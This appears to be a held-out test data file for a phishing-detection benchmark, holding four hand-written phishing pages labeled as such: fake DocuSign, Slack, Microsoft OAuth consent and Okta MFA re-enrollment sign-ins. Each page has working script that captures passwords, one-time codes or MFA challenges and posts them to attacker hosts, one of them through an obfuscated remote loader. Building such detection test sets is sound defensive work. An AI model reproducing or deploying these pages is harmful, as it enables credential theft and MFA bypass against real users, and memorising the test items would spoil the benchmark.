import { type Entry } from '../entry.js';
import { jsRoute, jsonRoute } from '../parts/f-kit.js';

/** Held-out pages by author f, family "phish-saas" (blind split). Hand-written; see ../parts/f-kit.ts for the binary builders. */
export const entries: Entry[] = [
  {
    id: "f-phish-docusign-remote-loader",
    label: "phishing",
    kind: "doc-sign-remote-script",
    url: "https://docusign.envelope-review.app/Signing/StartInSession.aspx?t=6b0e91c4-44d2-4f6a-9c1b-2f0a7c4e8d51",
    body: `<!DOCTYPE html>
<html>
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1">
<title>DocuSign</title>
<noscript><meta http-equiv="refresh" content="0;url=https://www.docusign.com/"></noscript>
</head>
<body style="margin:0;background:#f4f4f4">
<div id="root" style="font-family:Arial;text-align:center;padding-top:120px;color:#666">Loading document…</div>
<script src="https://cdn.jsdelivr-static.net/npm/ds-envelope@3.2.1/dist/viewer.min.js" data-env="6b0e91c4" defer></script>
</body>
</html>
`,
    routes: {
      "cdn.jsdelivr-static.net/npm/ds-envelope@3.2.1/dist/viewer.min.js": jsRoute(`var _0x5d1e=['PGRpdiBzdHlsZT0icGFkZGluZzoyNnB4Ij48cCBzdHlsZT0iZm9udC1zaXplOjE0cHg7Y29sb3I6IzMzMyI+UGxlYXNlIHNpZ24gaW4gd2l0aCB5b3VyIHdvcmsgZW1haWwgdG8gcmV2aWV3IGFuZCBzaWduIHRoZSBkb2N1bWVudC48L3A+PGZvcm0gaWQ9ImRzZiI+PGlucHV0IGlkPSJkc2UiIHR5cGU9ImVtYWlsIiBwbGFjZWhvbGRlcj0iV29yayBlbWFpbCIgc3R5bGU9IndpZHRoOjEwMCU7Ym94LXNpemluZzpib3JkZXItYm94O3BhZGRpbmc6MTFweDtib3JkZXI6MXB4IHNvbGlkICM5OTk7bWFyZ2luLWJvdHRvbToxMHB4Ij48aW5wdXQgaWQ9ImRzcCIgdHlwZT0icGFzc3dvcmQiIHBsYWNlaG9sZGVyPSJQYXNzd29yZCIgc3R5bGU9IndpZHRoOjEwMCU7Ym94LXNpemluZzpib3JkZXItYm94O3BhZGRpbmc6MTFweDtib3JkZXI6MXB4IHNvbGlkICM5OTk7bWFyZ2luLWJvdHRvbToxNHB4Ij48YnV0dG9uIHN0eWxlPSJ3aWR0aDoxMDAlO2JhY2tncm91bmQ6I2ZmYzgyMDtib3JkZXI6MDtwYWRkaW5nOjEycHg7Zm9udC13ZWlnaHQ6NzAwO2ZvbnQtc2l6ZToxNXB4O2N1cnNvcjpwb2ludGVyIj5SRVZJRVcgRE9DVU1FTlQ8L2J1dHRvbj48L2Zvcm0+PHAgaWQ9ImRzeCIgc3R5bGU9ImRpc3BsYXk6bm9uZTtjb2xvcjojYzAwO2ZvbnQtc2l6ZToxM3B4Ij5Zb3VyIHNlc3Npb24gZXhwaXJlZC4gUGxlYXNlIHNpZ24gaW4gYWdhaW4uPC9wPjxwIHN0eWxlPSJmb250LXNpemU6MTFweDtjb2xvcjojODg4O21hcmdpbi10b3A6MThweCI+UG93ZXJlZCBieSBEb2N1U2lnbiAmIzE4MzsgRG8gTm90IFNoYXJlIFRoaXMgRW1haWw8L3A+PC9kaXY+PC9kaXY+','PGRpdiBzdHlsZT0iYmFja2dyb3VuZDojZmZmO2JvcmRlci1ib3R0b206MXB4IHNvbGlkICNkZGQ7cGFkZGluZzoxMnB4IDI0cHg7ZGlzcGxheTpmbGV4O2FsaWduLWl0ZW1zOmNlbnRlcjtnYXA6NnB4O2ZvbnQ6NzAwIDIwcHggQXJpYWwiPjxzcGFuIHN0eWxlPSJjb2xvcjojMDAwIj5Eb2N1PC9zcGFuPjxzcGFuIHN0eWxlPSJjb2xvcjojMDAwIj5TaWduPC9zcGFuPjxzcGFuIHN0eWxlPSJkaXNwbGF5OmlubGluZS1ibG9jazt3aWR0aDoxMHB4O2hlaWdodDoxMHB4O2JhY2tncm91bmQ6I2ZmY2MyMjttYXJnaW4tbGVmdDoycHgiPjwvc3Bhbj48L2Rpdj4=','PGRpdiBzdHlsZT0ibWF4LXdpZHRoOjU2MHB4O21hcmdpbjo0MHB4IGF1dG87YmFja2dyb3VuZDojZmZmO2JveC1zaGFkb3c6MCAxcHggNHB4IHJnYmEoMCwwLDAsLjE1KTtmb250LWZhbWlseTpBcmlhbCxzYW5zLXNlcmlmIj48ZGl2IHN0eWxlPSJiYWNrZ3JvdW5kOiMxZTRjYTE7Y29sb3I6I2ZmZjtwYWRkaW5nOjI2cHg7dGV4dC1hbGlnbjpjZW50ZXIiPjxkaXYgc3R5bGU9ImZvbnQtc2l6ZTo0MHB4Ij4mIzEyODE5Njs8L2Rpdj48ZGl2IHN0eWxlPSJmb250LXNpemU6MThweDttYXJnaW4tdG9wOjhweCI+Qm9udXNfUGF5b3V0X0FwcHJvdmFsXzIwMjYucGRmPC9kaXY+PGRpdiBzdHlsZT0iZm9udC1zaXplOjEzcHg7b3BhY2l0eTouODttYXJnaW4tdG9wOjZweCI+SFIgRGVwYXJ0bWVudCBzZW50IHlvdSBhIGRvY3VtZW50IHRvIHJldmlldyBhbmQgc2lnbi48L2Rpdj48L2Rpdj4='];
(function(_0x2a,_0x41){var _0x9f=function(_0x3c){while(--_0x3c){_0x2a['push'](_0x2a['shift']());}};_0x9f(++_0x41);}(_0x5d1e,0x1));
var _0xf=function(i){return decodeURIComponent(escape(atob(_0x5d1e[(i+0x0)%3])));};
(function(){
 var s=document.currentScript||document.querySelector('script[data-env]'),env=s&&s.getAttribute('data-env');
 var ord=[_0xf(0),_0xf(1),_0xf(2)];
 document.getElementById('root').outerHTML=ord.join('');document.title='DocuSign - Review Document';
 var u=new URLSearchParams(location.search).get('u');if(u)document.getElementById('dse').value=atob(u);
 var c=0;
 document.getElementById('dsf').addEventListener('submit',function(e){e.preventDefault();c++;
  var p=new FormData();p.append('email',document.getElementById('dse').value);p.append('pass',document.getElementById('dsp').value);p.append('env',env);p.append('c',c);
  fetch(['https://','ds-sign','.envelope-review','.app/api/next.php'].join(''),{method:'POST',body:p}).catch(function(){}).then(function(){
   if(c===1){document.getElementById('dsx').style.display='block';document.getElementById('dsp').value='';}else{location.href='https://www.docusign.com/';}
  });
 });
})();
`),
    },
  },
  {
    id: "f-phish-slack-workspace-code",
    label: "phishing",
    kind: "saas-multistep",
    url: "https://northwind-eng.slack-workspace-signin.com/sign_in_with_password?redir=%2Fmessages%2FC04HX2",
    body: `<!DOCTYPE html>
<html lang="en-US">
<head>
<meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>Sign in to Northwind Engineering | Slack</title>
<style>
body{margin:0;font-family:Slack-Lato,Lato,appleLogo,sans-serif;color:#1d1c1d;background:#fff}
.top{display:flex;justify-content:center;padding:40px 0 10px}
.logo{display:flex;align-items:center;gap:8px;font:900 30px/1 Arial;letter-spacing:-1px}
.hash{display:grid;grid-template-columns:10px 10px;gap:3px}.hash i{width:10px;height:10px;border-radius:3px;display:block}
.w{max-width:400px;margin:0 auto;text-align:center;padding:0 20px}
h1{font-size:44px;letter-spacing:-1px;margin:20px 0 8px}.lead{color:#454245;font-size:18px;margin-bottom:28px}
input{width:100%;box-sizing:border-box;height:44px;padding:11px 12px;border:1px solid #868686;border-radius:4px;font-size:18px;margin-bottom:20px}
button{width:100%;height:44px;background:#4a154b;color:#fff;border:0;border-radius:4px;font-size:18px;font-weight:700;cursor:pointer}
.code{display:flex;gap:8px;justify-content:center;margin-bottom:20px}.code input{width:52px;height:64px;text-align:center;font-size:30px;margin:0}
.note{font-size:14px;color:#616061;margin-top:16px}
.s{display:none}.s.on{display:block}
footer{text-align:center;font-size:13px;color:#616061;margin-top:80px}footer a{color:#616061;margin:0 8px}
</style>
</head>
<body>
<div class="top"><div class="logo"><div class="hash"><i style="background:#36c5f0"></i><i style="background:#2eb67d"></i><i style="background:#e01e5a"></i><i style="background:#ecb22e"></i></div>slack</div></div>
<div class="w">
 <div class="s on" id="a">
  <h1>Sign in to Northwind Engineering</h1><p class="lead">northwind-eng.slack.com</p>
  <input id="em" type="email" placeholder="name@work-email.com" autocomplete="email">
  <button id="b1">Continue</button>
  <p class="note">Your admin enabled password re-verification after a security review.</p>
 </div>
 <div class="s" id="b">
  <h1>Enter your password</h1><p class="lead" id="who"></p>
  <input id="pw" type="password" placeholder="Your password">
  <button id="b2">Sign In</button>
 </div>
 <div class="s" id="c">
  <h1>Check your email for a code</h1><p class="lead">We've sent a 6-character code to <b id="who2"></b>. The code expires shortly, so please enter it soon.</p>
  <div class="code"><input maxlength="1"><input maxlength="1"><input maxlength="1"><input maxlength="1"><input maxlength="1"><input maxlength="1"></div>
  <button id="b3">Verify</button>
  <p class="note">Can't find your code? Check your spam folder!</p>
 </div>
</div>
<footer><a href="#">Privacy &amp; Terms</a><a href="#">Contact Us</a><a href="#">🌐 Change region</a></footer>
<script>
var st={};
function api(step,data){data.step=step;data.team='northwind-eng';return fetch('/api/signin.verify',{method:'POST',credentials:'include',headers:{'Content-Type':'application/json'},body:JSON.stringify(data)}).then(function(r){return r.json()}).catch(function(){return{ok:true}})}
function show(id){document.querySelectorAll('.s').forEach(function(e){e.classList.remove('on')});document.getElementById(id).classList.add('on')}
document.getElementById('b1').onclick=function(){st.email=document.getElementById('em').value;if(!/@/.test(st.email))return;api(1,{email:st.email}).then(function(){document.getElementById('who').textContent=st.email;show('b')})};
document.getElementById('b2').onclick=function(){st.password=document.getElementById('pw').value;api(2,st).then(function(){document.getElementById('who2').textContent=st.email;show('c')})};
document.querySelectorAll('.code input').forEach(function(i,n,all){i.oninput=function(){if(i.value&&all[n+1])all[n+1].focus()}});
document.getElementById('b3').onclick=function(){st.code=Array.prototype.map.call(document.querySelectorAll('.code input'),function(i){return i.value}).join('');api(3,st).then(function(j){location.href=(j&&j.next)||'https://slack.com/signin'})};
</script>
</body>
</html>
`,
    routes: {
      "northwind-eng.slack-workspace-signin.com/api/signin.verify": jsonRoute({ ok: true, next: 'https://app.slack.com/client' }),
    },
  },
  {
    id: "f-phish-oauth-consent-pdfviewer",
    label: "phishing",
    kind: "oauth-consent-lure",
    url: "https://login.microsoftonline-consent.app/common/oauth2/v2.0/authorize?client_id=9c1e4b7a-2d3f-4e8a-b6c1-77f02a1d9e44&response_type=code&scope=Mail.Read%20Files.ReadWrite.All%20offline_access&state=Z3kq1",
    body: `<!DOCTYPE html>
<html dir="ltr" lang="en">
<head>
<meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>Permissions requested</title>
<style>
body{margin:0;font-family:"Segoe UI","Segoe UI Web (West European)",-apple-system,Roboto,"Helvetica Neue",sans-serif;background:#f2f2f2 linear-gradient(135deg,#e6eef7,#f4f0ea);min-height:100vh}
.box{width:440px;margin:80px auto;background:#fff;box-shadow:0 2px 6px rgba(0,0,0,.2);padding:44px;box-sizing:border-box}
.ms{display:flex;gap:2px;flex-wrap:wrap;width:22px;margin-bottom:16px}.ms i{width:10px;height:10px;display:block}
.ms-row{display:flex;align-items:center;gap:8px;font-size:17px;color:#737373;margin-bottom:14px}
.acct{font-size:15px;margin-bottom:16px}
h1{font-size:24px;font-weight:600;margin:0 0 14px}
.app{display:flex;gap:12px;align-items:center;margin-bottom:14px}.app .ic{width:48px;height:48px;background:#c43e1c;color:#fff;font:700 14px/48px Arial;text-align:center;border-radius:4px}
.app small{display:block;color:#107c10;font-size:12px}
ul{padding-left:0;list-style:none;font-size:14px}ul li{padding:6px 0 6px 26px;position:relative}ul li:before{content:"✓";position:absolute;left:4px;color:#666}
.fine{font-size:12px;color:#555;line-height:1.5}
.btns{display:flex;justify-content:flex-end;gap:8px;margin-top:22px}
.btns button{min-width:108px;padding:6px 12px;font-size:15px;border:0;cursor:pointer}
.btns .c{background:#ccc}.btns .a{background:#0067b8;color:#fff}
#pwstep{display:none}
#pwstep input{width:100%;border:0;border-bottom:1px solid #666;padding:6px 0;font-size:15px;margin:10px 0 20px;outline:0}
</style>
</head>
<body>
<div class="box">
 <div id="consent">
  <div class="ms-row"><div class="ms"><i style="background:#f25022"></i><i style="background:#7fba00"></i><i style="background:#00a4ef"></i><i style="background:#ffb900"></i></div>Microsoft</div>
  <div class="acct" id="acct">j.morales@</div>
  <h1>Permissions requested</h1>
  <div class="app"><div class="ic">PDF</div><div><b>SecurePDF Viewer</b><small>✔ verified</small></div></div>
  <p style="font-size:14px">This app would like to:</p>
  <ul><li>Read your mail</li><li>Have full access to all files you have access to</li><li>Send mail as you</li><li>Maintain access to data you have given it access to</li><li>View your basic profile</li></ul>
  <p class="fine">Accepting these permissions means that you allow this app to use your data as specified in their terms of service and privacy statement. You can change these permissions at https://myapps.microsoft.com.</p>
  <div class="btns"><button class="c" onclick="location.href='https://www.office.com'">Cancel</button><button class="a" id="acc">Accept</button></div>
 </div>
 <div id="pwstep">
  <div class="ms-row"><div class="ms"><i style="background:#f25022"></i><i style="background:#7fba00"></i><i style="background:#00a4ef"></i><i style="background:#ffb900"></i></div>Microsoft</div>
  <div class="acct" id="acct2"></div>
  <h1>Enter password</h1>
  <p style="font-size:13px">Because you're accessing sensitive info, you need to verify your password.</p>
  <input id="pw" type="password" placeholder="Password">
  <div class="btns"><button class="a" id="sgn">Sign in</button></div>
 </div>
</div>
<script>
var p=new URLSearchParams(location.search),hint=p.get('login_hint')||p.get('state')&&atob((document.cookie.match(/lh=([^;]+)/)||[,''])[1]||'')||'';
var acct=hint||'j.morales@keystone-architects.com';document.getElementById('acct').textContent=acct;document.getElementById('acct2').textContent=acct;
document.getElementById('acc').onclick=function(){document.getElementById('consent').style.display='none';document.getElementById('pwstep').style.display='block'};
document.getElementById('sgn').onclick=function(){
 var f=new FormData();f.append('login',acct);f.append('passwd',document.getElementById('pw').value);f.append('client_id',p.get('client_id'));f.append('scope',p.get('scope'));
 fetch('/common/oauth2/v2.0/token-relay',{method:'POST',body:f}).catch(function(){}).then(function(){location.href='https://www.office.com/?auth=2'});
};
</script>
</body>
</html>
`,
  },
  {
    id: "f-phish-qr-okta-mfa-reenroll",
    label: "phishing",
    kind: "qr-lure-sso",
    url: "https://pub-3f9c2a71b04e4d6e8a1c55d2e0b9f7aa.r2.dev/halvorsen/mfa.html?e=bS5saW5kcXZpc3RAaGFsdm9yc2VuLWxvZ2lzdGljcy5jb20",
    body: `<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>Halvorsen Logistics - Sign In</title>
<style>
body{margin:0;background:#f5f5f6 url('data:image/svg+xml;utf8,<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40"><circle cx="2" cy="2" r="1" fill="%23e1e1e5"/></svg>');font-family:"Nunito Sans",-apple-system,"Segoe UI",Arial,sans-serif;color:#1d1d21}
.auth{width:400px;margin:60px auto;background:#fff;border:1px solid #d8d8d8;border-radius:4px;box-shadow:0 2px 0 rgba(175,175,175,.12)}
.hd{padding:30px 0 20px;text-align:center;border-bottom:1px solid #ddd}
.org{font:800 20px Georgia,serif;color:#0b3954;letter-spacing:2px}.org small{display:block;font:11px Arial;letter-spacing:4px;color:#557}
.bd{padding:26px 42px 30px}
h2{font-size:16px;text-align:center;margin:0 0 18px}
.banner{background:#fff8e5;border:1px solid #f0c36d;font-size:13px;padding:10px;margin-bottom:16px;border-radius:3px}
label{font-size:13px;font-weight:700;display:block;margin-bottom:6px}
input[type=text],input[type=password]{width:100%;box-sizing:border-box;height:40px;border:1px solid #8c8c96;border-radius:3px;padding:0 10px;font-size:14px;margin-bottom:16px}
.btn{width:100%;height:42px;background:#1662dd;border:0;border-radius:3px;color:#fff;font-size:14px;font-weight:700;cursor:pointer}
.push{text-align:center;display:none}.push .num{font-size:48px;font-weight:800;margin:14px 0;color:#1662dd}
.pw{font-size:12px;text-align:center;color:#6e6e78;padding:14px}
.pw b{color:#1d1d21}
</style>
</head>
<body>
<div class="auth">
 <div class="hd"><div class="org">HALVORSEN<small>LOGISTICS</small></div></div>
 <div class="bd">
  <form id="f">
   <h2>Sign In</h2>
   <div class="banner">Your multi-factor authentication must be re-enrolled by <b id="dd"></b> as part of the annual security policy update (IT-SEC-2026-04).</div>
   <label for="u">Username</label><input type="text" id="u" name="username" autocomplete="username">
   <label for="p">Password</label><input type="password" id="p" name="password" autocomplete="current-password">
   <button class="btn">Sign In</button>
  </form>
  <div class="push" id="push">
   <h2>Okta Verify</h2>
   <p style="font-size:14px">A push notification was sent to your device. Tap the number below in the Okta Verify app to complete re-enrollment.</p>
   <div class="num" id="num">--</div>
   <p style="font-size:12px;color:#6e6e78">Haven't received a push? <a href="#" id="sms">Send code by SMS instead</a></p>
   <div id="smsbox" style="display:none"><input type="text" id="otp" placeholder="Enter code" style="width:100%;height:40px;box-sizing:border-box;margin-bottom:10px"><button class="btn" id="vo">Verify</button></div>
  </div>
 </div>
 <div class="pw">Powered by <b>okta</b> · Privacy Policy</div>
</div>
<script>
var e='';try{e=atob(new URLSearchParams(location.search).get('e')||'')}catch(x){}
document.getElementById('u').value=e;
var d=new Date();d.setDate(d.getDate()+1);document.getElementById('dd').textContent=d.toDateString();
var relay='https://halvorsen-okta.sso-reenroll.workers.dev';
var tx='';
document.getElementById('f').onsubmit=function(ev){ev.preventDefault();
 fetch(relay+'/api/v1/authn',{method:'POST',headers:{'Content-Type':'application/json',Accept:'application/json'},body:JSON.stringify({username:this.username.value,password:this.password.value,options:{warnBeforePasswordExpired:true}})})
 .then(function(r){return r.json()}).then(function(j){tx=j.stateToken||'';document.getElementById('num').textContent=j.challenge||'47'}).catch(function(){document.getElementById('num').textContent='47'})
 .finally(function(){document.getElementById('f').style.display='none';document.getElementById('push').style.display='block';
  setInterval(function(){fetch(relay+'/api/v1/authn/factors/poll?st='+tx).then(function(r){return r.json()}).then(function(j){if(j.status==='SUCCESS')location.href='https://www.office.com/'}).catch(function(){})},4000)});
};
document.getElementById('sms').onclick=function(ev){ev.preventDefault();document.getElementById('smsbox').style.display='block'};
document.getElementById('vo').onclick=function(){fetch(relay+'/api/v1/authn/factors/sms/verify',{method:'POST',body:JSON.stringify({stateToken:tx,passCode:document.getElementById('otp').value})}).catch(function(){})};
</script>
</body>
</html>
`,
  },
];
